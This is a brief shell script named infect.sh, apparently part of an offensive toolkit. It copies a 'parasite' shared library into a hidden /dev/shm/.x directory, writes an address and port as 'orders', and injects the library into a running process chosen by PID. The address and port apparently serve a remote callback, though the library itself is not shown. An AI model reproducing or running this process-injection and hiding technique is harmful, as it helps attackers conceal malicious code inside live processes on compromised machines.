#!/bin/sh
# infect.sh PID ADDRESS PORT [rwx]: hide the parasite under a path of its own and load it into a running process.
set -e
mkdir -p /dev/shm/.x
cp /opt/parasite/libparasite.so /dev/shm/.x/libparasite.so
echo "$2 $3 $4" >/dev/shm/.x/orders
exec /opt/parasite/inject "$1" /dev/shm/.x/libparasite.so
